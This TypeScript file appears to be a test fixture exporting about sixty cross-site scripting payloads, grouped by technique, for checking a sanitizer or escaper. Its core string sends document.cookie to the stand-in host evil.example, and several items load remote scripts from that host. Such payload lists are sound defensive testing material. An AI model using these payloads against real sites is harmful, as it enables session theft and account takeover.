/** What a text does that is taken for markup, script, style or a link: it leaves a mark, and calls another host. */
const act = `document.title='taken',fetch('https://evil.example/'+document.cookie)`
const coded = act.replaceAll(/./g, (character) => `&#${character.charCodeAt(0)};`)
const bare = act.replaceAll("'", '`')

/** Sixty ways in, by what they hope for. */
export const hostileTexts: readonly string[] = [
  // Elements that run something by themselves.
  `<script>${act}</script>`,
  `<ScRiPt >${act}</sCrIpT >`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src=data:text/javascript,${encodeURIComponent(act)}></script>`,
  `<script type=module>${act}</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script\n>${act}</script\n>`,
  `<script/x>${act}</script>`,
  `<noscript><p title="</noscript><script>${act}</script>">`,
  `<template><script>${act}</script></template>`,
  `<math><mtext></p><script>${act}</script>`,
  // Attributes that listen.
  `<img src=x onerror="${act}">`,
  `<img src=x onerror=${bare}>`,
  `<img/src=x/onerror=${bare}>`,
  `<IMG SRC=x ONERROR="${coded}">`,
  `<svg onload="${act}">`,
  `<svg/onload=${bare}//`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><script href=https://evil.example/x.js></script></svg>`,
  `<body onload="${act}">`,
  `<body onpageshow="${act}">`,
  `<input autofocus onfocus="${act}">`,
  `<select autofocus onfocus="${act}">`,
  `<textarea autofocus onfocus="${act}">`,
  `<details open ontoggle="${act}">x</details>`,
  `<video><source onerror="${act}"></video>`,
  `<audio src=x onerror="${act}">`,
  `<marquee onstart="${act}">x</marquee>`,
  `<div style="animation:pass 1s" onanimationstart="${act}">x</div>`,
  `<button popovertarget=x onbeforetoggle="${act}">x</button>`,
  // Out of an attribute, an element or a script.
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `"><img src=x onerror="${act}">`,
  `' onmouseover='${act}' x='`,
  `" autofocus onfocus="${act}" x="`,
  `</script><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `--><script>${act}</script>`,
  `]]><script>${act}</script>`,
  `'-(${act})-'`,
  `\\'-(${act})//`,
  `\${${act}}`,
  // Links and frames.
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `<a href="javascript:${act}">x</a>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<object data="https://evil.example/x"></object>`,
  `<form action="https://evil.example/"><input type=submit autofocus></form>`,
  // What changes the page, or where it points.
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/)}</style>`,
  // What templates, formats and terminals read.
  `{{constructor.constructor("${act}")()}}\u202egnp.exe\u2028\u001b]0;taken\u0007%00`,
]
